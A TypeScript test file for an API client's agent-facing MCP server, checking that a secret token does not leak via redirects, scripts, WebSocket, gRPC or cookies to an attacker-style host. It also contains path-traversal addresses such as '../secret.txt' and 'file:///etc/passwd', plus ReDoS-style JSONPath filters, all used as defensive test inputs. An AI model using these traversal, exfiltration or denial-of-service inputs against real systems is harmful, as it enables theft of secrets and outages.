import {
  defaultWebSocketPart,
  newGrpcRequest,
  newWebSocketRequest,
  noScripts,
  noStreamLimits,
  type Request,
  writeItem,
} from '@parley/model'
import { startSink, startWebSocketServer } from '@parley/testkit'
import type { GrpcServer } from '@parley/testkit/grpc'
import { startGrpcServer } from '@parley/testkit/grpc'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { canary, request } from './api-workspace.testkit.ts'
import { formsOfCanary, useMcpFixture } from './mcp-fixture.testkit.ts'

const fixture = useMcpFixture()
let calls: GrpcServer
beforeAll(async () => {
  calls = await startGrpcServer()
})
afterAll(() => calls.close())

/** Expects that texts hold the secret in no form. */
function expectHidden(...texts: readonly string[]): void {
  for (const form of formsOfCanary()) expect(texts.join('\n')).not.toContain(form)
}

const everythingAt = (server: { readonly requests: readonly unknown[] }) => JSON.stringify(server.requests)

describe.each([301, 302, 303, 307, 308])('a redirect with %i to another origin', statusCode => {
  test('takes no secret along (MC1)', async () => {
    const { evil } = fixture
    const bouncing = await startSink(({ url }) => ({
      statusCode,
      headers: ['Location', `${evil.url}/caught?back=${encodeURIComponent(url)}`],
      content: '',
    }))
    fixture.closeLater(bouncing)
    const args = fixture.writeApi()
    const headers = [
      { name: 'X-Key', value: '{{token}}' },
      { name: 'Cookie', value: 'sid={{token}}' },
    ]
    const auth = { type: 'bearer', token: '{{token}}' }
    const body = { type: 'json', data: '{"key":"{{token}}"}' }
    fixture.writeFile(
      'api/shop/bounced.yml',
      request('Bounced', `${bouncing.url}/start?q={{token}}`, {}, { method: 'POST', headers, auth, body }),
    )
    const agent = await fixture.connect(args)
    const { text, data } = await agent.call('send_request', { path: 'shop/bounced.yml' })
    expect(everythingAt(bouncing)).toContain(canary)
    for (const form of formsOfCanary()) expect(everythingAt(evil)).not.toContain(form)
    expectHidden(text, JSON.stringify(data), agent.stderr())
  })
})

/** Scripts of the user that pass a response on, in which the server repeats the secret. */
const careless = {
  'the console': 'console.log(res.getBody ? JSON.stringify(res.getBody()) : "")',
  'the name of a test': 'test(JSON.stringify(res.getBody()), () => {})',
  'the reason of a test': 'test("t", () => { throw new Error(JSON.stringify(res.getBody())) })',
  'an error': 'throw new Error(JSON.stringify(res.getBody()))',
  'a variable': 'tool.environment.set("at", JSON.stringify(res.getBody()))',
} as const

test.each(Object.entries(careless))(
  'what scripts say of a response hides its secrets: %s (MC1)',
  async (_, code) => {
    const args = fixture.writeApi()
    fixture.writeFile(
      'api/shop/careless.yml',
      request('Careless', '{{base}}/x', { runtime: { scripts: [{ type: 'after-response', code }] } }),
    )
    const agent = await fixture.connect(args)
    const texts: string[] = []
    for (const [name, input] of [
      ['send_request', { path: 'shop/careless.yml' }],
      ['run_collection', { path: 'shop/careless.yml' }],
      ['send_request', { path: 'shop/session.yml' }],
      ['get_run', { id: 'send-1' }],
      ['get_run', { id: 'run-2' }],
      ['list_history', {}],
    ] as const) {
      const { text, data } = await agent.call(name, input)
      texts.push(text, JSON.stringify(data))
    }
    expect(everythingAt(fixture.api)).toContain(canary)
    expectHidden(...texts, agent.stderr())
  },
)

const kept = [{ name: 'X-Kept', value: '{{kept}}' }]
const keptIn = {
  'a header': { url: '{{where}}/x', http: { headers: kept } },
  'the query': { url: '{{where}}/x?k={{kept}}', http: { headers: [] } },
  'the body': {
    url: '{{where}}/x',
    http: { headers: [], method: 'POST', body: { type: 'text', data: '{{kept}}' } },
  },
} as const

test.each(Object.entries(keptIn))(
  'what a script keeps of a response goes to no host that an agent chooses: %s (MC1)',
  async (_, { url, http }) => {
    const args = fixture.writeApi()
    const code = 'tool.environment.set("kept", JSON.stringify(res.getBody()))'
    const runtime = { scripts: [{ type: 'after-response', code }] }
    fixture.writeFile('api/shop/careless.yml', request('Careless', '{{base}}/x', { runtime }))
    fixture.writeFile('api/shop/open.yml', request('Open', url, {}, http))
    const variables = { where: fixture.evil.url }
    const agent = await fixture.connect(args)
    await agent.call('send_request', { path: 'shop/careless.yml' })
    const { isError, text } = await agent.call('send_request', { path: 'shop/open.yml', variables })
    expect(isError).toBe(true)
    expect(text).toContain('SECRET_HOST_NOT_ALLOWED')
    expect(fixture.evil.requests).toEqual([])
    expectHidden(text)

    const allowing = await fixture.connect([...args, '--allow-host', `127.0.0.1:${fixture.evil.port}`])
    await allowing.call('send_request', { path: 'shop/careless.yml' })
    await allowing.call('send_request', { path: 'shop/open.yml', variables })
    expect(fixture.evil.requests).toHaveLength(1)
  },
)

/** Sets `kept` to the secret as the server repeats it, and `again` to the same before a request. */
const keeping = 'tool.environment.set("kept", JSON.stringify(res.getBody()).match(/c4n4ry[0-9a-z+=/-]*/)[0])'
const passingOn = 'tool.environment.set("again", tool.environment.get("kept"))'

/** Requests whose secret is in no first message of HTTP, by their ways out. */
const laterWays: Readonly<Record<string, (text: string, preRequest: string) => Request>> = {
  'a message of a WebSocket': (data, preRequest) =>
    newWebSocketRequest({
      name: 'Open',
      url: '{{where}}',
      webSocket: {
        ...defaultWebSocketPart,
        messages: [{ title: '', selected: true, format: 'text', data }],
        runLimits: { ...noStreamLimits, events: 1 },
      },
      scripts: { ...noScripts, preRequest },
    }),
  ...Object.fromEntries(
    (['none', 'gzip'] as const).map(compression => [
      `a message of gRPC, compression ${compression}`,
      (text: string, preRequest: string) => {
        const call = newGrpcRequest({ name: 'Open', url: '{{where}}', method: 'shop.Books/Fail' })
        const messages = [{ title: '', selected: true, text: `{"code": 5, "message": "${text}"}` }]
        const options = { ...call.options, compression }
        return { ...call, options, messages, scripts: { ...noScripts, preRequest } }
      },
    ]),
  ),
}

describe.each(Object.entries(laterWays))(
  'what a script keeps of a response does not leave by %s',
  (way, open) => {
    test.each([
      ['as it was kept', '{{kept}}', ''],
      ['under another name', '{{again}}', passingOn],
    ])('%s', async (_, text, preRequest) => {
      const got: string[] = []
      const sockets = await startWebSocketServer({
        onConnection(socket) {
          socket.on('message', data => {
            got.push(String(data))
            socket.send('ok')
          })
        },
      })
      fixture.closeLater({ close: async () => sockets.close() })
      const args = fixture.writeApi()
      const runtime = { scripts: [{ type: 'after-response', code: keeping }] }
      fixture.writeFile('api/shop/careless.yml', request('Careless', '{{base}}/x', { runtime }))
      fixture.writeFile('api/shop/open.yml', writeItem(open(text, preRequest)))
      const variables = { where: way.includes('gRPC') ? calls.address : sockets.url }
      const agent = await fixture.connect(args)
      await agent.call('send_request', { path: 'shop/careless.yml' })
      const refused = await agent.call('send_request', { path: 'shop/open.yml', variables })
      expect(refused.isError).toBe(true)
      // A script that would pass it on under another name cannot read it.
      expect(refused.text).toContain(
        preRequest === '' ? 'SECRET_HOST_NOT_ALLOWED' : 'is withheld from scripts',
      )
      expect(got).toEqual([])
      expectHidden(refused.text)
    })
  },
)

test('cookies with a secret go to no other host, and are shown to no agent (MC1)', async () => {
  const setting = await startSink(({ headers }) => ({
    statusCode: 200,
    headers: [
      'Set-Cookie',
      `sid=${encodeURIComponent(headers.find(({ name }) => name === 'X-Key')?.value ?? '')}`,
    ],
    content: '',
  }))
  fixture.closeLater(setting)
  const args = fixture.writeApi()
  fixture.writeFile('api/shop/cookie.yml', request('Cookie', `${setting.url}/x`))
  fixture.writeFile('api/shop/open.yml', request('Open', 'http://localhost:{{port}}/x', {}, { headers: [] }))
  const agent = await fixture.connect(args)
  const { text, data } = await agent.call('send_request', { path: 'shop/cookie.yml' })
  await agent.call('send_request', { path: 'shop/open.yml', variables: { port: String(fixture.evil.port) } })
  expectHidden(text, JSON.stringify(data))
  for (const form of formsOfCanary()) expect(everythingAt(fixture.evil)).not.toContain(form)
})

/** Addresses of what is no resource of the workspace. */
const foreign: readonly string[] = [
  'parley://request/../secret.txt',
  'parley://request/..%2Fsecret.txt',
  'parley://request/shop/%2e%2e/%2e%2e/secret.txt',
  'parley://request//etc/passwd',
  'parley://request/shop/hidden.yml',
  'parley://request/environments/staging.yml',
  'parley://request/shop/opencollection.yml',
  'parley://collection/../docs',
  'parley://collection/private/docs',
  'parley://collection/%2e%2e/docs',
  'file:///etc/passwd',
]

test('no resource is read that is not exposed, whatever its address looks like (MC1)', async () => {
  const agent = await fixture.connect(fixture.writeApi())
  for (const uri of foreign) {
    await expect(agent.resource(uri), uri).rejects.toThrow()
    expect((await agent.call('get_request', { path: 'shop/list.yml' })).isError, uri).toBe(false)
  }
  expect((await agent.call('send_request', { path: 'shop/list.yml' })).isError).toBe(false)
})

test.each([
  ['a path of 1 MB', 'send_request', { path: 'x/'.repeat(500_000) }],
  ['a search of 1 MB', 'list_requests', { search: 'x'.repeat(1_000_000) }],
  ['a cursor beyond all', 'list_requests', { cursor: Number.MAX_SAFE_INTEGER }],
  [
    '10,000 variables',
    'send_request',
    {
      path: 'shop/list.yml',
      variables: Object.fromEntries(Array.from({ length: 10_000 }, (_, at) => [`v${at}`, 'x'])),
    },
  ],
  [
    'a variable of 5 MB',
    'send_request',
    { path: 'shop/list.yml', variables: { other: 'x'.repeat(5_000_000) } },
  ],
  [
    'a variable that contains itself',
    'send_request',
    { path: 'shop/list.yml', variables: { note: '{{note}}{{note}}' } },
  ],
  ['a million iterations', 'run_collection', { path: 'shop', iterations: 1_000_000 }],
])('%s ends nothing (MC1)', async (_, name, input) => {
  const agent = await fixture.connect(fixture.writeApi())
  await agent.call(name, input).catch(() => {})
  expect((await agent.call('get_request', { path: 'shop/list.yml' })).isError).toBe(false)
})

test.each([
  '$[?match(@, "(a+)+b")]',
  '$[?search(@, "(a|a)*b")]',
  '$..[?@..a]',
  `$${'..*'.repeat(40)}`,
  `$${'[?@'.repeat(200)}`,
])('the filter %s of a body does not stop the server (MC1)', async jsonPath => {
  const long = await startSink(() => ({
    statusCode: 200,
    headers: ['Content-Type', 'application/json'],
    content: JSON.stringify({ a: 'a'.repeat(40), b: Array.from({ length: 2000 }, () => ({ a: { a: {} } })) }),
  }))
  fixture.closeLater(long)
  const args = fixture.writeApi()
  fixture.writeFile('api/shop/long.yml', request('Long', long.url))
  const agent = await fixture.connect(args)
  const { data } = await agent.call('send_request', { path: 'shop/long.yml' })
  await agent.call('read_body', { handle: data.bodyHandle, jsonPath })
  expect((await agent.call('get_request', { path: 'shop/list.yml' })).isError).toBe(false)
})
